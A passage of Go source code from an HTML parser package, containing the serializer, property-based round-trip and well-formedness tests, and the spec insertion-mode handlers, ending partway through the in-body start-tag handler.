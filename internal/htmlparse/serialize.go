package htmlparse

import (
	"io"
	"strings"
)

// HTML serialization (spec 13.3, "Serializing HTML fragments"). The
// serialize → reparse round trip is the core of the automatic repair
// strategy in internal/autofix: the re-serialized document has the same
// DOM the error-tolerant parser already produced, but with valid syntax.
//
// Round-trip caveat (shared with browsers; the spec's serialization
// section carries the same warning): four constructs serialize correctly
// but do not re-parse to the same tree —
//
//   - a <script> whose text contains an unbalanced "<!--" re-parses in the
//     script-data double-escaped state and can swallow its own end tag,
//   - <plaintext> content never terminates, so the serialized end tags
//     after it become content on re-parse,
//   - foster parenting can nest an a/nobr/button inside a same-named
//     ancestor (e.g. <a><table><a>: the table's marker in the active
//     formatting list shields the outer a from the adoption agency), but
//     serialization drops the table detour, so the re-parse splits the
//     pair,
//   - a stray </p> or </br> inside SVG/MathML content makes the parser
//     insert an implied element *inside* the foreign subtree, but on
//     re-parse the now-explicit <p>/<br> start tag is a foreign-content
//     breakout and lands outside it.
//
// TestPropertyRenderParseFixpoint pins down exactly this boundary.

// rawTextContent are elements whose text children serialize verbatim.
var rawTextContent = newStringSet(
	"style", "script", "xmp", "iframe", "noembed", "noframes",
	"plaintext", "noscript",
)

// Render serializes the tree rooted at n to w. Document and fragment roots
// serialize as the concatenation of their children.
func Render(w io.Writer, n *Node) error {
	buf, ok := w.(interface{ WriteString(string) (int, error) })
	if !ok {
		buf = stringWriter{w}
	}
	return render(buf, n)
}

// RenderString serializes the tree rooted at n to a string.
func RenderString(n *Node) string {
	var b strings.Builder
	_ = render(&b, n) // strings.Builder never fails
	return b.String()
}

type stringWriter struct{ io.Writer }

func (s stringWriter) WriteString(str string) (int, error) { return s.Write([]byte(str)) }

type sw interface{ WriteString(string) (int, error) }

func render(w sw, n *Node) error {
	switch n.Type {
	case DocumentNode:
		return renderChildren(w, n)
	case ElementNode:
		return renderElement(w, n)
	case TextNode:
		if p := n.Parent; p != nil && p.Type == ElementNode && p.Namespace == NamespaceHTML && rawTextContent[p.Data] {
			_, err := w.WriteString(n.Data)
			return err
		}
		_, err := w.WriteString(escapeText(n.Data))
		return err
	case CommentNode:
		if _, err := w.WriteString("<!--"); err != nil {
			return err
		}
		if _, err := w.WriteString(n.Data); err != nil {
			return err
		}
		_, err := w.WriteString("-->")
		return err
	case DoctypeNode:
		if _, err := w.WriteString("<!DOCTYPE "); err != nil {
			return err
		}
		if _, err := w.WriteString(n.Data); err != nil {
			return err
		}
		_, err := w.WriteString(">")
		return err
	}
	return nil
}

func renderElement(w sw, n *Node) error {
	if _, err := w.WriteString("<"); err != nil {
		return err
	}
	if _, err := w.WriteString(n.Data); err != nil {
		return err
	}
	for _, a := range n.Attr {
		if a.Duplicate {
			continue
		}
		if _, err := w.WriteString(" "); err != nil {
			return err
		}
		if _, err := w.WriteString(a.Name); err != nil {
			return err
		}
		if _, err := w.WriteString(`="`); err != nil {
			return err
		}
		if _, err := w.WriteString(escapeAttr(a.Value)); err != nil {
			return err
		}
		if _, err := w.WriteString(`"`); err != nil {
			return err
		}
	}
	if _, err := w.WriteString(">"); err != nil {
		return err
	}
	if n.Namespace == NamespaceHTML && voidElements[n.Data] {
		return nil
	}
	// Spec 13.3: the parser drops a newline immediately after an opening
	// pre/textarea/listing tag, so a text child that genuinely starts
	// with one needs a second newline to survive the round trip.
	if n.Namespace == NamespaceHTML &&
		(n.Data == "pre" || n.Data == "textarea" || n.Data == "listing") {
		if c := n.FirstChild; c != nil && c.Type == TextNode && strings.HasPrefix(c.Data, "\n") {
			if _, err := w.WriteString("\n"); err != nil {
				return err
			}
		}
	}
	// An RCDATA element's text serializes escaped (title, textarea),
	// handled by the TextNode case; raw-text elements verbatim.
	if err := renderChildren(w, n); err != nil {
		return err
	}
	if _, err := w.WriteString("</"); err != nil {
		return err
	}
	if _, err := w.WriteString(n.Data); err != nil {
		return err
	}
	_, err := w.WriteString(">")
	return err
}

func renderChildren(w sw, n *Node) error {
	for c := n.FirstChild; c != nil; c = c.NextSibling {
		if err := render(w, c); err != nil {
			return err
		}
	}
	return nil
}

// A literal CR can only enter the DOM through a character reference
// (the preprocessor normalizes raw CR to LF before tokenization), and
// serializing it raw would turn it back into LF on re-parse. Escaping
// it as &#13; keeps the round trip faithful; raw-text elements are safe
// to serialize verbatim because their content never decodes references.
var textEscaper = strings.NewReplacer(
	"&", "&amp;",
	" ", "&nbsp;",
	"<", "&lt;",
	">", "&gt;",
	"\r", "&#13;",
)

var attrEscaper = strings.NewReplacer(
	"&", "&amp;",
	" ", "&nbsp;",
	`"`, "&quot;",
	"\r", "&#13;",
)

func escapeText(s string) string { return textEscaper.Replace(s) }
func escapeAttr(s string) string { return attrEscaper.Replace(s) }
