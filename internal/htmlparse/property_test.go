package htmlparse

import (
	"math/rand"
	"reflect"
	"strings"
	"testing"
	"testing/quick"
	"unicode/utf8"
)

// Property-based tests of the parser's core invariants, using
// testing/quick. These are the guarantees error tolerance rests on: the
// parser must accept *anything* without failing, and its output must be a
// fixpoint — re-parsing serialized output reproduces the same tree. The
// latter is exactly what makes the serialize-reparse repair of
// internal/autofix sound.

// htmlishString generates strings biased towards markup-significant
// characters, so random inputs actually exercise the state machine instead
// of drifting through the data state.
type htmlishString string

var htmlishAlphabet = []string{
	"<", ">", "/", "=", "\"", "'", "&", "!", "-", ";", "#",
	"a", "b", "p", "x", "1", " ", "\n", "\t",
	"<div", "<table", "<tr", "<td", "<form", "<select", "<option",
	"<textarea", "<script", "<style", "<svg", "<math", "<mtext",
	"<!--", "-->", "</", "<![CDATA[", "]]>", "<!DOCTYPE",
	"id=", "class=", "href=", "src=", "&amp;", "&#x41;", "&lt",
	"日", "ö", "\x00",
}

// Generate implements quick.Generator.
func (htmlishString) Generate(r *rand.Rand, size int) reflect.Value {
	var b strings.Builder
	n := r.Intn(size*4 + 1)
	for i := 0; i < n; i++ {
		b.WriteString(htmlishAlphabet[r.Intn(len(htmlishAlphabet))])
	}
	return reflect.ValueOf(htmlishString(b.String()))
}

// TestPropertyParseNeverFails: any UTF-8 input parses without error or
// panic and yields a document with the html/head/body skeleton.
func TestPropertyParseNeverFails(t *testing.T) {
	f := func(s htmlishString) bool {
		res, err := Parse([]byte(s))
		if err != nil {
			return false
		}
		html := res.Doc.Find(func(n *Node) bool { return n.IsElement("html") })
		head := res.Doc.Find(func(n *Node) bool { return n.IsElement("head") })
		body := res.Doc.Find(func(n *Node) bool { return n.IsElement("body") })
		return html != nil && head != nil && body != nil
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 2000}); err != nil {
		t.Fatal(err)
	}
}

// TestPropertyParseArbitraryBytes: truly random byte slices either parse
// or are rejected as non-UTF-8 — never a panic.
func TestPropertyParseArbitraryBytes(t *testing.T) {
	f := func(b []byte) bool {
		res, err := Parse(b)
		if err == ErrNotUTF8 {
			return !utf8.Valid(b)
		}
		return err == nil && res.Doc != nil
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 2000}); err != nil {
		t.Fatal(err)
	}
}

// rawTextRoundTripHazard reports whether the parse hit one of the
// constructs whose serialization is not round-trippable by design (see the
// caveat in serialize.go): a script whose content re-enters the
// double-escaped state, a plaintext element, or an implied p/br created by
// a stray end tag while foreign content was open.
func rawTextRoundTripHazard(res *Result) bool {
	if res.Doc.Find(func(n *Node) bool {
		if n.Type != ElementNode || n.Namespace != NamespaceHTML {
			return false
		}
		if n.Data == "plaintext" {
			return true
		}
		if n.Data == "script" && strings.Contains(n.Text(), "<!--") {
			return true
		}
		return false
	}) != nil {
		return true
	}
	hasForeign := res.Doc.Find(func(n *Node) bool {
		return n.Type == ElementNode && n.Namespace != NamespaceHTML
	}) != nil
	if !hasForeign {
		return false
	}
	for _, e := range res.Errors {
		if e.Code == ErrUnexpectedEndTag && (e.Detail == "p" || e.Detail == "br") {
			return true
		}
	}
	return false
}

// TestPropertyRenderParseFixpoint: parse → render → parse → render is
// stable (the second render equals the first) for every document outside
// the documented raw-text hazard. This is the soundness property the §4.4
// automatic syntax repair relies on.
func TestPropertyRenderParseFixpoint(t *testing.T) {
	skipped := 0
	f := func(s htmlishString) bool {
		res1, err := Parse([]byte(s))
		if err != nil {
			return true // non-UTF-8 by construction impossible, but safe
		}
		if rawTextRoundTripHazard(res1) {
			skipped++
			return true
		}
		out1 := RenderString(res1.Doc)
		res2, err := Parse([]byte(out1))
		if err != nil {
			t.Logf("render of %q not parseable: %v", s, err)
			return false
		}
		out2 := RenderString(res2.Doc)
		if out1 != out2 {
			t.Logf("fixpoint broken for %q\n out1 %q\n out2 %q", s, out1, out2)
			return false
		}
		return true
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 1500}); err != nil {
		t.Fatal(err)
	}
	if skipped > 750 {
		t.Fatalf("hazard skip rate too high: %d of 1500", skipped)
	}
}

// TestPropertyTreeIsWellFormed: parent/child/sibling links are mutually
// consistent on every parse result.
func TestPropertyTreeIsWellFormed(t *testing.T) {
	f := func(s htmlishString) bool {
		res, err := Parse([]byte(s))
		if err != nil {
			return true
		}
		ok := true
		res.Doc.Walk(func(n *Node) bool {
			var prev *Node
			for c := n.FirstChild; c != nil; c = c.NextSibling {
				if c.Parent != n {
					ok = false
				}
				if c.PrevSibling != prev {
					ok = false
				}
				prev = c
			}
			if n.LastChild != prev {
				ok = false
			}
			return ok
		})
		return ok
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 1500}); err != nil {
		t.Fatal(err)
	}
}

// TestPropertyErrorsSorted: the merged error list is position-ordered.
func TestPropertyErrorsSorted(t *testing.T) {
	f := func(s htmlishString) bool {
		res, err := Parse([]byte(s))
		if err != nil {
			return true
		}
		for i := 1; i < len(res.Errors); i++ {
			if res.Errors[i].Pos.Offset < res.Errors[i-1].Pos.Offset {
				return false
			}
		}
		return true
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 1000}); err != nil {
		t.Fatal(err)
	}
}

// TestPropertyPreprocessIdempotent: preprocessing its own output changes
// nothing.
func TestPropertyPreprocessIdempotent(t *testing.T) {
	f := func(s string) bool {
		p1, err := Preprocess([]byte(s))
		if err != nil {
			return true
		}
		p2, err := Preprocess(p1.Input)
		if err != nil {
			return false
		}
		return string(p1.Input) == string(p2.Input)
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 2000}); err != nil {
		t.Fatal(err)
	}
}

// TestPropertyFragmentNeverFails: fragment parsing is as tolerant as
// document parsing, in every context the sanitizer might use.
func TestPropertyFragmentNeverFails(t *testing.T) {
	contexts := []string{"div", "body", "table", "select", "textarea", "svg"}
	f := func(s htmlishString, which uint8) bool {
		ctx := contexts[int(which)%len(contexts)]
		res, err := ParseFragment([]byte(s), ctx)
		return err == nil && res.Doc != nil
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 1500}); err != nil {
		t.Fatal(err)
	}
}
