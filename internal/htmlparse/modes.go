package htmlparse

import "strings"

// This file implements the insertion modes of the tree construction stage
// (spec 13.2.6.4). Handlers take the current token and report whether it
// was consumed; returning false reprocesses it under the (possibly
// changed) current mode, which is the spec's "reprocess the token".

// cancelStride is how many tokens the tree builder processes between
// cancellation polls: coarse enough to stay invisible on the hot path,
// fine enough that a request deadline interrupts a pathological
// document within microseconds.
const cancelStride = 512

func (tb *treeBuilder) run() {
	for !tb.stopped {
		if tb.cancel != nil {
			if tb.cancelTick++; tb.cancelTick >= cancelStride {
				tb.cancelTick = 0
				if err := tb.cancel(); err != nil {
					tb.abort = err
					return
				}
			}
		}
		if tb.maxDepth > 0 && len(tb.stack) > tb.maxDepth {
			tb.abort = ErrTreeDepthExceeded
			return
		}
		t := tb.z.Next()
		if tb.recordTokens {
			switch t.Type {
			case StartTagToken, EndTagToken:
				tb.tokens = append(tb.tokens, t)
			}
		}
		if tb.skipLeadingNewline {
			tb.skipLeadingNewline = false
			if t.Type == CharacterToken && strings.HasPrefix(t.Data, "\n") {
				t.Data = t.Data[1:]
				if t.Data == "" {
					continue
				}
			}
		}
		if t.Type == StartTagToken && t.SelfClosing {
			tb.selfClosingAcked = false
			tb.process(t)
			if !tb.selfClosingAcked {
				tb.parseError(ErrNonVoidElementWithTrailingSolidus, t.Data, t.Pos)
			}
		} else {
			tb.process(t)
		}
		if t.Type == EOFToken {
			tb.stopped = true
		}
	}
}

func (tb *treeBuilder) process(t Token) {
	for consumed := false; !consumed; {
		if tb.useForeignRules(&t) {
			consumed = tb.foreignIM(&t)
		} else {
			consumed = tb.handle(tb.mode, &t)
		}
	}
}

func (tb *treeBuilder) handle(mode insertionMode, t *Token) bool {
	switch mode {
	case modeInitial:
		return tb.initialIM(t)
	case modeBeforeHTML:
		return tb.beforeHTMLIM(t)
	case modeBeforeHead:
		return tb.beforeHeadIM(t)
	case modeInHead:
		return tb.inHeadIM(t)
	case modeAfterHead:
		return tb.afterHeadIM(t)
	case modeInBody:
		return tb.inBodyIM(t)
	case modeText:
		return tb.textIM(t)
	case modeInTable:
		return tb.inTableIM(t)
	case modeInTableText:
		return tb.inTableTextIM(t)
	case modeInCaption:
		return tb.inCaptionIM(t)
	case modeInColumnGroup:
		return tb.inColumnGroupIM(t)
	case modeInTableBody:
		return tb.inTableBodyIM(t)
	case modeInRow:
		return tb.inRowIM(t)
	case modeInCell:
		return tb.inCellIM(t)
	case modeInSelect:
		return tb.inSelectIM(t)
	case modeInSelectInTable:
		return tb.inSelectInTableIM(t)
	case modeAfterBody:
		return tb.afterBodyIM(t)
	case modeInFrameset:
		return tb.inFramesetIM(t)
	case modeAfterFrameset:
		return tb.afterFramesetIM(t)
	case modeAfterAfterBody:
		return tb.afterAfterBodyIM(t)
	case modeAfterAfterFrameset:
		return tb.afterAfterFramesetIM(t)
	}
	return true
}

// stopParsing records which elements were still open at end-of-file (the
// DE1/DE2 evidence) and halts the parse.
func (tb *treeBuilder) stopParsing(pos Position) {
	for _, n := range tb.stack {
		if n.Type != ElementNode || n.Implied {
			continue
		}
		// The document skeleton is always open at EOF; that is not a
		// violation signal.
		if n.Namespace == NamespaceHTML {
			switch n.Data {
			case "html", "head", "body", "frameset":
				continue
			}
		}
		allowed := n.Namespace == NamespaceHTML && allowedOpenAtEOF[n.Data]
		n.AutoClosedAtEOF = true
		tb.events = append(tb.events, TreeEvent{
			Kind: EventAutoClosedAtEOF, Detail: n.Data,
			Namespace: n.Namespace, Allowed: allowed, Pos: pos,
		})
		if !allowed {
			tb.parseError(ErrUnexpectedEOFInElement, n.Data, pos)
		}
	}
	tb.stopped = true
}

// splitLeadingWhitespace cuts t.Data into its leading ASCII whitespace and
// the remainder.
func splitLeadingWhitespace(s string) (ws, rest string) {
	i := 0
	for i < len(s) {
		switch s[i] {
		case '\t', '\n', '\f', '\r', ' ':
			i++
			continue
		}
		break
	}
	return s[:i], s[i:]
}

func isAllWhitespace(s string) bool {
	_, rest := splitLeadingWhitespace(s)
	return rest == ""
}

// ---- 13.2.6.4.1 initial ----

func (tb *treeBuilder) initialIM(t *Token) bool {
	switch t.Type {
	case CharacterToken:
		_, rest := splitLeadingWhitespace(t.Data)
		if rest == "" {
			return true
		}
		t.Data = rest
	case CommentToken:
		tb.insertComment(*t, tb.doc)
		return true
	case DoctypeToken:
		n := tb.newNode()
		*n = Node{Type: DoctypeNode, Data: t.Data, PublicID: t.PublicID, SystemID: t.SystemID, Pos: t.Pos}
		tb.doc.AppendChild(n)
		tb.quirksMode = quirksModeOf(t)
		tb.quirks = tb.quirksMode == Quirks
		tb.mode = modeBeforeHTML
		return true
	}
	// Anything else: missing doctype — quirks mode.
	tb.parseError(ErrUnexpectedTokenInInitialMode, "", t.Pos)
	tb.quirksMode = Quirks
	tb.quirks = true
	tb.mode = modeBeforeHTML
	return false
}

// ---- 13.2.6.4.2 before html ----

func (tb *treeBuilder) beforeHTMLIM(t *Token) bool {
	switch t.Type {
	case DoctypeToken:
		tb.parseError(ErrUnexpectedDoctype, "", t.Pos)
		return true
	case CommentToken:
		tb.insertComment(*t, tb.doc)
		return true
	case CharacterToken:
		_, rest := splitLeadingWhitespace(t.Data)
		if rest == "" {
			return true
		}
		t.Data = rest
	case StartTagToken:
		if t.Data == "html" {
			n := tb.createElement(*t, NamespaceHTML)
			tb.doc.AppendChild(n)
			tb.push(n)
			tb.mode = modeBeforeHead
			return true
		}
	case EndTagToken:
		switch t.Data {
		case "head", "body", "html", "br":
		default:
			tb.parseError(ErrUnexpectedEndTag, t.Data, t.Pos)
			return true
		}
	}
	n := tb.newNode()
	*n = Node{Type: ElementNode, Data: "html", Namespace: NamespaceHTML, Implied: true, Pos: t.Pos}
	tb.doc.AppendChild(n)
	tb.push(n)
	tb.mode = modeBeforeHead
	return false
}

// ---- 13.2.6.4.3 before head ----

func (tb *treeBuilder) beforeHeadIM(t *Token) bool {
	switch t.Type {
	case CharacterToken:
		_, rest := splitLeadingWhitespace(t.Data)
		if rest == "" {
			return true
		}
		t.Data = rest
	case CommentToken:
		tb.insertComment(*t, nil)
		return true
	case DoctypeToken:
		tb.parseError(ErrUnexpectedDoctype, "", t.Pos)
		return true
	case StartTagToken:
		switch t.Data {
		case "html":
			return tb.inBodyIM(t)
		case "head":
			tb.head = tb.insertElement(*t, NamespaceHTML)
			tb.mode = modeInHead
			return true
		}
	case EndTagToken:
		switch t.Data {
		case "head", "body", "html", "br":
		default:
			tb.parseError(ErrUnexpectedEndTag, t.Data, t.Pos)
			return true
		}
	}
	tb.head = tb.insertImplied("head", t.Pos)
	if t.Type != EOFToken {
		tb.event(EventImpliedHead, "", NamespaceHTML, t.Pos)
	}
	tb.mode = modeInHead
	return false
}

// ---- 13.2.6.4.4 in head ----

func (tb *treeBuilder) inHeadIM(t *Token) bool {
	switch t.Type {
	case CharacterToken:
		ws, rest := splitLeadingWhitespace(t.Data)
		if ws != "" {
			tb.insertText(ws, t.Pos)
		}
		if rest == "" {
			return true
		}
		t.Data = rest
	case CommentToken:
		tb.insertComment(*t, nil)
		return true
	case DoctypeToken:
		tb.parseError(ErrUnexpectedDoctype, "", t.Pos)
		return true
	case StartTagToken:
		switch t.Data {
		case "html":
			return tb.inBodyIM(t)
		case "base", "basefont", "bgsound", "link", "meta":
			tb.insertElement(*t, NamespaceHTML)
			tb.pop()
			tb.ackSelfClosing()
			return true
		case "title":
			tb.parseGenericRawText(*t)
			return true
		case "noscript":
			if !tb.scriptingEnabled {
				tb.insertElement(*t, NamespaceHTML)
				return true
			}
			tb.parseGenericRawText(*t)
			return true
		case "noframes", "style":
			tb.parseGenericRawText(*t)
			return true
		case "script":
			tb.parseGenericRawText(*t)
			return true
		case "template":
			// Template contents are parsed in place; the separate template
			// insertion modes and content document are not modelled (a
			// documented deviation — no violation rule depends on them).
			tb.insertElement(*t, NamespaceHTML)
			tb.pushAFEMarker()
			tb.framesetOK = false
			return true
		case "head":
			tb.parseError(ErrUnexpectedStartTag, "head", t.Pos)
			return true
		}
	case EndTagToken:
		switch t.Data {
		case "head":
			tb.pop()
			tb.mode = modeAfterHead
			return true
		case "template":
			if tb.elementInScope(nil, "template") {
				tb.generateImpliedEndTags("")
				tb.popUntil("template")
				tb.clearAFEToMarker()
			} else {
				tb.parseError(ErrUnexpectedEndTag, t.Data, t.Pos)
			}
			return true
		case "body", "html", "br":
		default:
			tb.parseError(ErrUnexpectedEndTag, t.Data, t.Pos)
			return true
		}
	}
	// Anything else: implicitly close the head. If the trigger was not one
	// of the tokens for which the spec sanctions end-tag omission, this is
	// the HF1 "broken head" situation: the parser cannot know whether the
	// following content was meant for the head.
	tb.pop()
	tb.mode = modeAfterHead
	if t.Type != EOFToken {
		legal := t.Type == StartTagToken && (t.Data == "body" || t.Data == "frameset")
		if !legal {
			detail := "#text"
			if t.Type == StartTagToken || t.Type == EndTagToken {
				detail = t.Data
			}
			tb.event(EventHeadBroken, detail, NamespaceHTML, t.Pos)
		}
	}
	return false
}

// parseGenericRawText implements the generic raw text / RCDATA parsing
// algorithm: insert the element, switch the tokenizer content model, and
// enter the text insertion mode.
func (tb *treeBuilder) parseGenericRawText(t Token) {
	tb.insertElement(t, NamespaceHTML)
	tb.z.StartRawText(t.Data)
	tb.originalMode = tb.mode
	tb.mode = modeText
	if t.Data == "textarea" {
		tb.skipLeadingNewline = true
	}
}

// ---- 13.2.6.4.6 after head ----

func (tb *treeBuilder) afterHeadIM(t *Token) bool {
	switch t.Type {
	case CharacterToken:
		ws, rest := splitLeadingWhitespace(t.Data)
		if ws != "" {
			tb.insertText(ws, t.Pos)
		}
		if rest == "" {
			return true
		}
		t.Data = rest
	case CommentToken:
		tb.insertComment(*t, nil)
		return true
	case DoctypeToken:
		tb.parseError(ErrUnexpectedDoctype, "", t.Pos)
		return true
	case StartTagToken:
		switch t.Data {
		case "html":
			return tb.inBodyIM(t)
		case "body":
			tb.insertElement(*t, NamespaceHTML)
			tb.framesetOK = false
			tb.mode = modeInBody
			return true
		case "frameset":
			tb.insertElement(*t, NamespaceHTML)
			tb.mode = modeInFrameset
			return true
		case "base", "basefont", "bgsound", "link", "meta", "noframes",
			"script", "style", "template", "title":
			// Head content after the head was closed: the parser reroutes
			// it into the head element (HF1 evidence, and the place where
			// wrongly positioned meta/base elements surface).
			tb.parseError(ErrUnexpectedElementInHead, t.Data, t.Pos)
			tb.eventAttrs(EventMetadataAfterHead, t.Data, t.Pos, t.Attr)
			tb.push(tb.head)
			tb.inHeadIM(t)
			tb.removeFromStack(tb.head)
			return true
		case "head":
			tb.parseError(ErrUnexpectedStartTag, "head", t.Pos)
			return true
		}
	case EndTagToken:
		switch t.Data {
		case "template":
			return tb.inHeadIM(t)
		case "body", "html", "br":
		default:
			tb.parseError(ErrUnexpectedEndTag, t.Data, t.Pos)
			return true
		}
	}
	tb.insertImplied("body", t.Pos)
	if t.Type != EOFToken {
		tb.event(EventImpliedBody, "", NamespaceHTML, t.Pos)
	}
	tb.framesetOK = true
	tb.mode = modeInBody
	return false
}

// ---- 13.2.6.4.7 in body ----

func (tb *treeBuilder) inBodyIM(t *Token) bool {
	switch t.Type {
	case CharacterToken:
		data := strings.ReplaceAll(t.Data, "\x00", "")
		if len(data) != len(t.Data) {
			tb.parseError(ErrUnexpectedNullCharacter, "", tb.nulPos(t))
		}
		if data == "" {
			return true
		}
		tb.reconstructAFE()
		tb.insertText(data, t.Pos)
		if !isAllWhitespace(data) {
			tb.framesetOK = false
		}
		return true
	case CommentToken:
		tb.insertComment(*t, nil)
		return true
	case DoctypeToken:
		tb.parseError(ErrUnexpectedDoctype, "", t.Pos)
		return true
	case EOFToken:
		tb.stopParsing(t.Pos)
		return true
	case StartTagToken:
		return tb.inBodyStartTag(t)
	case EndTagToken:
		return tb.inBodyEndTag(t)
	}
	return true
}

func (tb *treeBuilder) inBodyStartTag(t *Token) bool {
	switch t.Data {
	case "html":
		tb.parseError(ErrUnexpectedStartTag, "html", t.Pos)
		if len(tb.stack) > 0 {
			tb.mergeAttrs(tb.stack[0], *t)
		}
		return true
	case "base", "basefont", "bgsound", "link", "noframes", "script",
		"style", "template", "title", "meta":
		// Processed "using the rules for in head", which inserts them at
		// the current location — i.e. inside the body. This is the DM1/DM2
		// surface the paper studies.
		switch t.Data {
		case "meta":
			tb.eventAttrs(EventMetaInBody, t.Data, t.Pos, t.Attr)
		case "base":
			tb.eventAttrs(EventBaseInBody, t.Data, t.Pos, t.Attr)
		}
		return tb.inHeadIM(t)
	case "body":
		tb.parseError(ErrSecondBodyStartTag, "", t.Pos)
		if len(tb.stack) > 1 && tb.stack[1].IsElement("body") {
			tb.framesetOK = false
			tb.mergeAttrs(tb.stack[1], *t)
			tb.event(EventSecondBody, "", NamespaceHTML, t.Pos)
		}
		return true
	case "frameset":
		tb.parseError(ErrUnexpectedStartTag, "frameset", t.Pos)
		if !tb.framesetOK || len(tb.stack) < 2 || !tb.stack[1].IsElement("body") {
			return true
		}
		body := tb.stack[1]
		if body.Parent != nil {
			body.Parent.RemoveChild(body)
		}
		tb.stack = tb.stack[:1]
		tb.insertElement(*t, NamespaceHTML)
		tb.mode = modeInFrameset
		return true
	case "address", "article", "aside", "blockquote", "center", "details",
		"dialog", "dir", "div", "dl", "fieldset", "figcaption", "figure",
		"footer", "header", "hgroup", "main", "menu", "nav", "ol", "p",
		"search", "section", "summary", "ul":
		if tb.elementInScope(buttonScopeExtra, "p") {
			tb.closePElement()
		}
		tb.insertElement(*t, NamespaceHTML)
		return true
	case "h1", "h2", "h3", "h4", "h5", "h6":
		if tb.elementInScope(buttonScopeExtra, "p") {
			tb.closePElement()
		}
		if n := tb.currentNode(); n != nil && n.Namespace == NamespaceHTML {
			switch n.Data {
			case "h1", "h2", "h3", "h4", "h5", "h6":
				tb.parseError(ErrUnexpectedStartTag, t.Data, t.Pos)
				tb.pop()
			}
		}
		tb.insertElement(*t, NamespaceHTML)
		return true
	case "pre", "listing":
		if tb.elementInScope(buttonScopeExtra, "p") {
			tb.closePElement()
		}
		tb.insertElement(*t, NamespaceHTML)
		tb.skipLeadingNewline = true
		tb.framesetOK = false
		return true
	case "form":
		if tb.form != nil {
			// The DE4 signal: a nested form start tag is silently dropped,
			// so an attacker-controlled earlier form wins.
			tb.parseError(ErrNestedFormElement, "", t.Pos)
			tb.event(EventNestedForm, "", NamespaceHTML, t.Pos)
			return true
		}
		if tb.elementInScope(buttonScopeExtra, "p") {
			tb.closePElement()
		}
		tb.form = tb.insertElement(*t, NamespaceHTML)
		return true
	case "li":
		tb.framesetOK = false
		for i := len(tb.stack) - 1; i >= 0; i-- {
			n := tb.stack[i]
			if n.IsElement("li") {
				tb.generateImpliedEndTags("li")
				if !tb.currentNode().IsElement("li") {
					tb.parseError(ErrUnexpectedStartTag, "li", t.Pos)
				}
				tb.popUntil("li")
				break
			}
			if n.Namespace == NamespaceHTML && specialElements[n.Data] &&
				n.Data != "address" && n.Data != "div" && n.Data != "p" {
				break
			}
		}
		if tb.elementInScope(buttonScopeExtra, "p") {
			tb.closePElement()
		}
		tb.insertElement(*t, NamespaceHTML)
		return true
	case "dd", "dt":
		tb.framesetOK = false
		for i := len(tb.stack) - 1; i >= 0; i-- {
			n := tb.stack[i]
			if n.IsElement("dd") || n.IsElement("dt") {
				tb.generateImpliedEndTags(n.Data)
				if tb.currentNode() != n {
					tb.parseError(ErrUnexpectedStartTag, t.Data, t.Pos)
				}
				tb.popUntil("dd", "dt")
				break
			}
			if n.Namespace == NamespaceHTML && specialElements[n.Data] &&
				n.Data != "address" && n.Data != "div" && n.Data != "p" {
				break
			}
		}
		if tb.elementInScope(buttonScopeExtra, "p") {
			tb.closePElement()
		}
		tb.insertElement(*t, NamespaceHTML)
		return true
	case "plaintext":
		if tb.elementInScope(buttonScopeExtra, "p") {
			tb.closePElement()
		}
		tb.insertElement(*t, NamespaceHTML)
		tb.z.StartRawText("plaintext")
		return true
	case "button":
		if tb.elementInScope(nil, "button") {
			tb.parseError(ErrUnexpectedStartTag, "button", t.Pos)
			tb.generateImpliedEndTags("")
			tb.popUntil("button")
		}
		tb.reconstructAFE()
		tb.insertElement(*t, NamespaceHTML)
		tb.framesetOK = false
		return true
	case "a":
		if i := tb.afeIndexAfterLastMarker("a"); i >= 0 {
			tb.parseError(ErrAdoptionAgencyMisnesting, "a", t.Pos)
			n := tb.afe[i].node
			tb.adoptionAgency(&Token{Type: EndTagToken, Data: "a", Pos: t.Pos})
			tb.removeFromAFE(n)
			tb.removeFromStack(n)
		}
		tb.reconstructAFE()
		n := tb.insertElement(*t, NamespaceHTML)
		tb.pushAFE(n, *t)
		return true
	case "b", "big", "code", "em", "font", "i", "s", "small", "strike",
		"strong", "tt", "u":
		tb.reconstructAFE()
		n := tb.insertElement(*t, NamespaceHTML)
		tb.pushAFE(n, *t)
		return true
	case "nobr":
		tb.reconstructAFE()
		if tb.elementInScope(nil, "nobr") {
			tb.parseError(ErrAdoptionAgencyMisnesting, "nobr", t.Pos)
			tb.adoptionAgency(&Token{Type: EndTagToken, Data: "nobr", Pos: t.Pos})
			tb.reconstructAFE()
		}
		n := tb.insertElement(*t, NamespaceHTML)
		tb.pushAFE(n, *t)
		return true
	case "applet", "marquee", "object":
		tb.reconstructAFE()
		tb.insertElement(*t, NamespaceHTML)
		tb.pushAFEMarker()
		tb.framesetOK = false
		return true
	case "table":
		if !tb.quirks && tb.elementInScope(buttonScopeExtra, "p") {
			tb.closePElement()
		}
		tb.insertElement(*t, NamespaceHTML)
		tb.framesetOK = false
		tb.mode = modeInTable
		return true
	case "area", "br", "embed", "img", "keygen", "wbr":
		tb.reconstructAFE()
		tb.insertElement(*t, NamespaceHTML)
		tb.pop()
		tb.ackSelfClosing()
		tb.framesetOK = false
		return true
	case "input":
		tb.reconstructAFE()
		n := tb.insertElement(*t, NamespaceHTML)
		tb.pop()
		tb.ackSelfClosing()
		if typ, _ := n.LookupAttr("type"); asciiLower(typ) != "hidden" {
			tb.framesetOK = false
		}
		return true
	case "param", "source", "track":
		tb.insertElement(*t, NamespaceHTML)
		tb.pop()
		tb.ackSelfClosing()
		return true
	case "hr":
		if tb.elementInScope(buttonScopeExtra, "p") {
			tb.closePElement()
		}
		tb.insertElement(*t, NamespaceHTML)
		tb.pop()
		tb.ackSelfClosing()
		tb.framesetOK = false
		return true
	case "image":
		// "Don't ask." — the spec literally retags image as img.
		tb.parseError(ErrUnexpectedStartTag, "image", t.Pos)
		t.Data = "img"
		return false
	case "textarea":
		tb.parseGenericRawText(*t)
		tb.framesetOK = false
		return true
	case "xmp":
		if tb.elementInScope(buttonScopeExtra, "p") {
			tb.closePElement()
		}
		tb.reconstructAFE()
		tb.framesetOK = false
		tb.parseGenericRawText(*t)
		return true
	case "iframe":
		tb.framesetOK = false
		tb.parseGenericRawText(*t)
		return true
	case "noembed":
		tb.parseGenericRawText(*t)
		return true
	case "noscript":
		if tb.scriptingEnabled {
